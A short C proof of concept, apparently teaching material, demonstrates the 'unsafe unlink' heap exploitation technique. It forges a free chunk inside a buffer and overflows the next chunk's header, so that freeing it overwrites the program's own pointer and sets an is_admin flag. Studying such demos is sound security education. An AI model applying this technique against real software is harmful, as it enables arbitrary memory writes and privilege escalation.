// Overflow into the notes of the next block ("unsafe unlink").
//
// A text is 16 bytes longer than its block. Under allocators that keep their notes between the blocks, these bytes say
// that the text is a free block itself, and where its neighbours in the list of free blocks are. When the next block is
// freed, both are merged, the text is taken off its list, and that writes to an address the attacker chose.
// The attacker gains: the program's own pointer to its text leads to where it is kept, so that he can write anywhere.
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { SIZE = 0x428 };

static uint64_t* volatile text;
static uint64_t* volatile next;
static volatile long is_admin;

int main(void) {
  text = malloc(SIZE);
  next = malloc(SIZE);
  memset(text, 0, SIZE);
  text[1] = SIZE - 8;                     // a forged free block inside of the text
  text[2] = (uint64_t)&text - 3 * 8;
  text[3] = (uint64_t)&text - 2 * 8;
  text[SIZE / 8 - 1] = SIZE - 8;
  text[SIZE / 8] = SIZE + 8;              // bug: 8 bytes behind the block

  uint64_t* mine = text;
  free(next);
  if (text == mine) {
    free(mine);
    puts("attack failed: the program's pointer is not changed");
    return 1;
  }
  text[3] = (uint64_t)&is_admin;  // the program writes to its text: it changes its own pointer,
  text[0] = 1;                    // and then whatever that leads to
  if (is_admin == 0) return puts("attack failed: nothing was written"), 1;
  printf("ATTACK SUCCEEDED: the program's pointer leads to %p, is_admin = %ld\n", (void*)text, is_admin);
  return 0;
}
